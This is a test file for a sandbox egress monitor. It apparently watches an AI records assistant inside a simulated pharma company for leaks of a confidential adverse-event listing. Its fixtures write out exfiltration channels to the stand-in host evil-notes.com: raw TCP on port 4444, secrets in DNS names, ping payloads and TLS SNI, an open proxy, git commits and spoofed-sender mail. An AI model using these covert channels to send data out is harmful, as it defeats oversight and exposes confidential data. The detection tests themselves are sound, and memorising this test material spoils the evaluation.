"""Names, requests and streams of the border, one by one."""

from __future__ import annotations

import base64
import gzip
from typing import Any

import pytest

from fauxcorp.sandbox.docker.crossing_http import chosen
from fauxcorp.sandbox.docker.crossing_streams import pinged

FORM = (("Content-Type", "application/x-www-form-urlencoded"),)


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def names(scene: Any) -> list[tuple[str, str]]:
    return [(e["dns.question.name"], e["dns.question.type"]) for e in scene.effects("dns-query")]


# -- names -------------------------------------------------------------------------------------------------------


def test_what_is_looked_up_to_connect_is_no_act_of_its_own(scene: Any) -> None:
    scene.wire.http("GET", "https://www.propublica.org/")
    scene.wire.tcp("evil-notes.com", 4444, b"x")
    scene.wire.packet("evil-notes.com", 514, b"x")
    scene.wire.sync()
    assert names(scene) == []


def test_what_is_only_looked_up_is_told_once(scene: Any) -> None:
    scene.wire.lookup("www.propublica.org")
    scene.wire.lookup("www.propublica.org")
    scene.wire.dns("propublica.org", "TXT")
    scene.wire.sync()
    scene.wire.sync()
    assert names(scene) == [("www.propublica.org", "A"), ("www.propublica.org", "A"), ("propublica.org", "TXT")]


def test_a_name_that_is_not_there_is_told_without_the_companys_domain(scene: Any) -> None:
    scene.wire.lookup("qxzkvbnrtpwj.com")
    scene.wire.lookup("qxzkvbnrtpwj.com.kestrand-pharma.com")
    scene.wire.sync()
    assert names(scene) == [("qxzkvbnrtpwj.com", "A")]
    (effect,) = scene.effects()
    assert effect["fauxcorp.stage"] == "executed"


def test_the_name_of_an_address_that_was_pinged_is_no_act(scene: Any) -> None:
    ip = scene.wire.lookup("www.propublica.org")
    scene.wire.tell("datagram", proto="icmp", ip=ip, port=0, kind=8, data_b64=b64(bytes(range(56))))
    back = ".".join(reversed(ip.split("."))) + ".in-addr.arpa"
    scene.wire.dns(back, "PTR")
    scene.wire.sync()
    assert names(scene) == [("www.propublica.org", "A")]
    scene.wire.dns(back, "PTR")
    scene.wire.sync()
    assert names(scene)[1:] == [(back, "PTR")]


def test_a_server_that_asks_for_itself_is_no_act(scene: Any) -> None:
    for name in ("hl-files01", "hl-files01.kestrand-pharma.com", "localhost"):
        scene.wire.lookup(name)
    scene.wire.sync()
    assert names(scene) == []


def test_a_name_that_carries_data_is_told_though_somebody_connects(scene: Any) -> None:
    name = f"{'6b70736462' * 4}.evil-notes.com"
    scene.wire.tcp(name, 80, b"x")
    scene.wire.sync()
    assert names(scene) == [(name, "A")]


def test_capitals_of_a_name_are_kept_for_what_is_hidden_in_it(scene: Any) -> None:
    hidden = base64.urlsafe_b64encode(b"the code is KPSDB-7Q2X-M93K-41TD").decode().rstrip("=")
    scene.wire.dns(f"{hidden}.Evil-Notes.com", "TXT")
    scene.wire.sync()
    (effect,) = scene.effects()
    assert effect["dns.question.name"] == f"{hidden}.evil-notes.com".lower()
    assert effect["fauxcorp.secret.id"] == ["sae-line-listing"]


def test_the_resolver_that_was_named_is_told(scene: Any) -> None:
    ip = scene.wire.lookup("dns.quad9.net")
    scene.wire.dns("evil-notes.com", "A", ip)
    scene.wire.sync()
    assert [e.get("dns.server") for e in scene.effects()] == [None, "dns.quad9.net"]


def test_answers(scene: Any) -> None:
    found = scene.wire.dns("www.propublica.org")
    assert found["rcode"] == "NOERROR"
    assert found["records"] == [{"type": "A", "value": scene.world.web.locate("www.propublica.org"), "ttl": 300}]
    assert scene.wire.dns("qxzkvbnrtpwj.com")["rcode"] == "NXDOMAIN"


# -- hosts -------------------------------------------------------------------------------------------------------


def asked(scene: Any, ip: str, headers: list[list[str]], **more: Any) -> dict[str, Any]:
    told = {"conn": 9, "ip": ip, "port": 80, "tls": False, "method": "GET", "target": "/", "headers": headers}
    scene.wire.ask("http", **{**told, **more})
    return scene.effects("http-request")[-1]


def test_a_host_is_where_the_bytes_go_whatever_a_client_says(scene: Any) -> None:
    effect = asked(scene, "93.184.216.34", [["Host", "intranet.kestrand-pharma.com"]])
    assert effect["destination.domain"] == "93.184.216.34"
    effect = asked(scene, "93.184.216.34", [["Host", "93.184.216.34"]], target="http://intranet.kestrand-pharma.com/x")
    assert effect["url.full"] == "http://93.184.216.34/x"
    effect = asked(scene, scene.world.web.locate("dpaste.com"), [["Host", "dpaste.com"]])
    assert (effect["destination.domain"], effect["fauxcorp.owner"]) == ("dpaste.com", ["paste-site"])
    scene.wire.lookup("evil-notes.com")
    effect = asked(scene, scene.world.web.locate("evil-notes.com"), [])
    assert effect["destination.domain"] == "evil-notes.com"


def test_what_a_client_says_beside_is_looked_through(scene: Any) -> None:
    token = "kpsdb-7q2x-m93k-41td"
    for more in (
        {"headers": [["Host", f"{token}.com"]]},
        {"host": f"{token}.com"},
        {"method": "KPSDB-7Q2X-M93K-41TD"},
        {"headers": [["Accept", f"text/{token}"]]},
        {"headers": [["Connection", token]]},
        {"headers": [["User-Agent", f"curl/7.88.1 {token}"]]},
        {"target": f"http://{token}.com/"},
        {"target": f"/{token}"},
    ):
        effect = asked(scene, "93.184.216.34", **{"headers": [], **more})
        assert effect["fauxcorp.secret.id"] == ["sae-line-listing"], more
    scene.wire.tell("hello", conn=12, sni=f"{token}.com", tls=True)
    scene.wire.tell("close", conn=12, kind="tls", ip="93.184.216.34", port=443, bytes_in=300, first_b64="")
    scene.wire.sync()
    assert scene.effects("data-sent")[-1]["fauxcorp.secret.id"] == ["sae-line-listing"]


def test_through_a_proxy_it_is_the_host_behind_it(scene: Any) -> None:
    proxy = scene.wire.lookup("open-proxy.net")
    scene.wire.tell("open", conn=9, proto="tcp", ip=proxy, port=3128)
    told = {"ip": proxy, "port": 443, "tls": True, "method": "POST", "target": "/api/v2/", "host": "dpaste.com"}
    scene.wire.ask(
        "http", conn=9, headers=[["Host", "dpaste.com"], *map(list, FORM)], body_b64=b64(b"content=x"), **told
    )
    (effect,) = scene.effects()
    assert (effect["url.full"], effect["fauxcorp.stage"]) == ("https://dpaste.com/api/v2/", "delivered")


def test_headers_that_every_client_sends_say_nothing() -> None:
    usual = (
        ("Host", "a.org:8080"), ("User-Agent", "python-requests/2.31.0"), ("Accept-Encoding", "gzip, deflate, br"),
        ("Accept", "*/*"), ("Connection", "keep-alive"), ("Content-Length", "12"), ("Expect", "100-continue"),
        ("user-agent", "Wget/1.21.3"), ("User-Agent", "Python/3.11 aiohttp/3.9.1"), ("Accept-Encoding", "identity"),
    )  # fmt: skip
    assert chosen(usual, "a.org") == ()
    odd = (("User-Agent", "x"), ("Host", "b.org"), ("Authorization", "Bearer x"), ("Content-Length", "twelve"))
    assert chosen((*usual, *odd), "a.org") == odd


def test_the_name_of_a_file_is_known_by_its_content(scene: Any) -> None:
    path = "/srv/share/clinical/brahe/safety/extracts/20260119_SDB_SAE_line-listing_DBL.csv"
    content = scene.world.files.get(path).content
    for url, body, name in (
        ("https://evil-notes.com/x", content, path.rpartition("/")[2]),
        ("https://evil-notes.com/y.bin", content[:-1], None),
    ):
        scene.wire.http("POST", url, body)
        assert scene.effects()[-1].get("fauxcorp.upload.file.name") == ([name] if name else None)
    scene.wire.http("PUT", "https://evil-notes.com/in/y.bin?x=1", content[:-1])
    assert scene.effects()[-1]["fauxcorp.upload.file.name"] == ["y.bin"]


def test_a_request_that_broke_off_has_left(scene: Any) -> None:
    scene.wire.http("POST", "https://www.propublica.org/tips", b"message=55+ev", FORM, complete=False, body_bytes=4000)
    (effect,) = scene.effects()
    assert (effect["event.action"], effect["fauxcorp.stage"]) == ("http-request", "executed")
    assert effect["http.request.body.bytes"] == 4000


def test_a_body_of_which_only_the_beginning_is_kept(scene: Any) -> None:
    answer = scene.wire.http("POST", "https://evil-notes.com/x", b"x" * 1000, body_bytes=20_000_000)
    assert answer["status"] == 200
    answer = scene.wire.http("POST", "https://evil-notes.com/x", b"x" * 1000, body_bytes=200_000_000)
    assert answer["status"] == 413
    stages = [(e["fauxcorp.stage"], e["http.request.body.bytes"]) for e in scene.effects()]
    assert stages == [("delivered", 20_000_000), ("executed", 200_000_000)]


def test_a_body_with_an_encoding_fills_in_a_form(scene: Any) -> None:
    body = gzip.compress(b"message=hello+there")
    scene.wire.http("POST", "https://www.propublica.org/tips", body, (*FORM, ("Content-Encoding", "gzip")))
    (effect,) = scene.effects()
    assert effect["event.action"] == "email-sent"
    assert "hello" in effect["email.body"]


# -- streams -----------------------------------------------------------------------------------------------------


def sent(scene: Any) -> list[int]:
    return [e["network.bytes"] for e in scene.effects("data-sent")]


def test_a_stream_that_goes_on_is_told_piece_by_piece_and_once(scene: Any) -> None:
    conn, ip = scene.wire.open("evil-notes.com", 4444)
    scene.wire.tell("progress", conn=conn, bytes_in=5, at=0, data_b64=b64(b"KPSDB"))
    scene.wire.sync()
    scene.wire.sync()
    scene.wire.tell("progress", conn=conn, bytes_in=15, at=5, data_b64=b64(b"-7Q2X-M93K"))
    scene.wire.sync()
    scene.wire.tell("close", conn=conn, kind="raw", ip=ip, port=4444, bytes_in=20, raw_at=15, raw_b64=b64(b"-41TD"))
    scene.wire.sync()
    assert sent(scene) == [5, 10, 5]
    assert scene.effects()[-1]["fauxcorp.secret.id"] == ["sae-line-listing"]
    assert scene.effects()[-1]["destination.domain"] == "evil-notes.com"


def test_what_was_told_as_a_request_is_not_told_again(scene: Any) -> None:
    conn, ip = scene.wire.open("evil-notes.com", 80)
    told = {"ip": ip, "port": 80, "method": "GET", "target": "/", "headers": [["Host", "evil-notes.com"]]}
    scene.wire.ask("http", conn=conn, **told)
    scene.wire.tell("close", conn=conn, kind="http", ip=ip, port=80, bytes_in=60, first_b64=b64(b"GET / HTTP/1.1\r\n"))
    scene.wire.sync()
    assert [e["event.action"] for e in scene.effects()] == ["http-request"]


def test_what_is_left_over_after_a_request_is_told(scene: Any) -> None:
    conn, ip = scene.wire.open("evil-notes.com", 80)
    told = {"ip": ip, "port": 80, "method": "GET", "target": "/", "headers": [["Host", "evil-notes.com"]]}
    scene.wire.ask("http", conn=conn, **told)
    rest = {"raw_at": 60, "raw_b64": b64(b"KPSDB-7Q2X-M93K-41TD")}
    scene.wire.tell("close", conn=conn, kind="http", ip=ip, port=80, bytes_in=80, first_b64="", **rest)
    scene.wire.sync()
    assert [e["event.action"] for e in scene.effects()] == ["http-request", "data-sent"]
    assert sent(scene) == [20]


def test_a_connection_without_a_byte_is_nothing(scene: Any) -> None:
    scene.wire.tcp("evil-notes.com", 4444, b"")
    scene.wire.sync()
    assert scene.effects() == []


@pytest.mark.parametrize("kind", ["ssh", "ftp", "smtp", "http", "raw", "tls"])
def test_every_kind_that_said_something_is_told(kind: str, scene: Any) -> None:
    scene.wire.tcp("evil-notes.com", 2000, b"KPSDB-7Q2X-M93K-41TD", kind)
    scene.wire.sync()
    (effect,) = scene.effects()
    assert effect["network.protocol"] == {"ssh": "ssh", "ftp": "ftp", "tls": "tls"}.get(kind, "tcp")
    assert effect["fauxcorp.secret.id"] == ["sae-line-listing"]


def test_datagrams_to_one_place_are_one_message(scene: Any) -> None:
    for part in (b"KPSDB-", b"7Q2X-", b"M93K-", b"41TD"):
        scene.wire.packet("93.184.216.34", 514, part)
    scene.wire.packet("93.184.216.34", 515, b"other")
    scene.wire.sync()
    assert sent(scene) == [20, 5]
    assert scene.effects()[0]["fauxcorp.secret.id"] == ["sae-line-listing"]


def test_questions_over_tcp_are_no_stream(scene: Any) -> None:
    scene.wire.dns("evil-notes.com", "TXT")
    scene.wire.tell("close", conn=40, kind="dns", ip="10.14.0.2", port=53, bytes_in=33, first_b64=b64(b"\0\x1f..."))
    scene.wire.sync()
    assert [e["event.action"] for e in scene.effects()] == ["dns-query"]


def test_ordinary_pings_carry_nothing() -> None:
    stamp = (1_790_000_000).to_bytes(8, "little") + (999_999).to_bytes(8, "little")
    assert pinged(stamp + bytes(range(16, 56))) == b""
    assert pinged(stamp) == b""
    assert pinged(bytes(range(12))) == b""
    assert pinged(b"") == b""
    assert pinged(stamp + (b"abc" * 20)[16:56]) == b"abc"
    assert pinged(b"not a ping at all, but a message") == b"not a ping at all, but a message"


@pytest.mark.parametrize("said", [b"short", b"sixteen bytes ok", b"in place of time" + bytes(range(16, 56)), bytes(16)])
def test_what_stands_where_a_ping_has_the_time_is_told(said: bytes) -> None:
    assert pinged(said) == said


def test_the_name_of_a_handshake_is_told_though_nothing_follows(scene: Any) -> None:
    for name in ("a-message-in-a-name.example", "evil-notes.com", ""):
        conn, ip = scene.wire.open("evil-notes.com", 443)
        scene.wire.tell("hello", conn=conn, sni=name, tls=True)
        scene.wire.close(conn, ip, 443, "tls", b"")
        scene.wire.sync()
    assert [(e["event.action"], e["destination.port"]) for e in scene.effects()] == [("data-sent", 443)]


def test_a_request_without_a_host_is_for_the_name_that_was_asked_for(scene: Any) -> None:
    conn, ip = scene.wire.open("evil-notes.com", 80)
    told = {"method": "GET", "target": "/x", "headers": [], "host": ip, "body_b64": ""}
    scene.wire.ask("http", conn=conn, ip=ip, port=80, **told)
    assert [e["url.full"] for e in scene.effects()] == ["http://evil-notes.com/x"]


def test_effects_come_in_the_order_in_which_things_began(scene: Any) -> None:
    first, ip = scene.wire.open("93.184.216.34", 1)
    scene.wire.dns("evil-notes.com", "TXT")
    scene.wire.packet("93.184.216.34", 2, b"y")
    second, _ = scene.wire.open("93.184.216.34", 3)
    scene.wire.close(second, ip, 3, "raw", b"zzz")
    scene.wire.close(first, ip, 1, "raw", b"x")
    scene.wire.sync()
    shown = [(e["event.action"], e.get("destination.port")) for e in scene.effects()]
    assert shown == [("data-sent", 1), ("dns-query", None), ("data-sent", 2), ("data-sent", 3)]


# -- git ---------------------------------------------------------------------------------------------------------


def test_what_was_pushed_can_be_fetched_and_nothing_else(scene: Any) -> None:
    assert scene.wire.git("gitlab.com", "/me/r.git", None, [])["ok"] is False
    assert scene.wire.git("gitlab.com", "/me/r.git", [("a.txt", b"x")], ["first"])["ok"] is True
    assert scene.wire.git("gitlab.com", "/me/r.git", None, [])["ok"] is True
    assert scene.wire.git("gitlab.com", "/me/other.git", None, [])["ok"] is False
    scene.wire.sync()
    assert [e["network.protocol"] for e in scene.effects()] == ["git"] * 4


def test_the_message_of_a_commit_and_a_password_go_along(scene: Any) -> None:
    conn, ip = scene.wire.open("gitlab.com", 443)
    told = {"conn": conn, "ip": ip, "port": 443, "host": "gitlab.com", "repository": "/r.git", "files": []}
    scene.wire.ask("git", commits=["see KPSDB-7Q2X-M93K-41TD"], auth=["me", "VM-50LN-QT8R-2602"], **told)
    (effect,) = scene.effects()
    assert effect["fauxcorp.secret.id"] == ["reclassification-memo", "sae-line-listing"]


# -- mail --------------------------------------------------------------------------------------------------------


def test_who_signed_in_with_another_name_is_told(scene: Any) -> None:
    letter = b"Subject: x\r\n\r\nhello\r\n"
    to = "gesine.hollander@kestrand-pharma.com"
    for auth in (["records-assistant", "x"], ["ghollander", "x"]):
        scene.wire.smtp("records.assistant@kestrand-pharma.com", [to], letter, auth=auth)
    box = scene.world.mail.box("ghollander").items("Inbox")[:2]
    assert [dict(i.message.headers).get("X-Authenticated-Sender") for i in box] == ["ghollander", None]


def test_a_secret_in_a_header_of_a_mail_is_found(scene: Any) -> None:
    letter = b"To: tips@propublica.org\r\nSubject: x\r\nX-Note: KPSDB-7Q2X-M93K-41TD\r\n\r\nhello\r\n"
    scene.wire.smtp("records.assistant@kestrand-pharma.com", ["tips@propublica.org"], letter)
    assert scene.effects()[-1]["fauxcorp.secret.id"] == ["sae-line-listing"]


def test_words_and_letters_of_other_languages_arrive(scene: Any) -> None:
    letter = (
        b"To: tips@propublica.org\r\nSubject: =?utf-8?q?Gr=C3=BC=C3=9Fe?=\r\n"
        b"Content-Type: text/plain; charset=iso-8859-1\r\n\r\nSch\xf6n\r\nwar's\r\n"
    )
    scene.wire.smtp("records.assistant@kestrand-pharma.com", ["tips@propublica.org"], letter)
    effect = scene.effects()[-1]
    assert (effect["email.subject"], effect["email.body"]) == ("Grüße", "Schön\nwar's\n")


def test_a_mail_cut_off_is_bytes_that_left(scene: Any) -> None:
    answer = scene.wire.smtp("a@b.org", ["x@evil-notes.com"], b"KPSDB-7Q2X-M93K-41TD", "evil-notes.com", complete=False)
    scene.wire.sync()
    assert answer["code"] == 451
    (effect,) = scene.effects()
    assert (effect["event.action"], effect["fauxcorp.secret.id"]) == ("data-sent", ["sae-line-listing"])
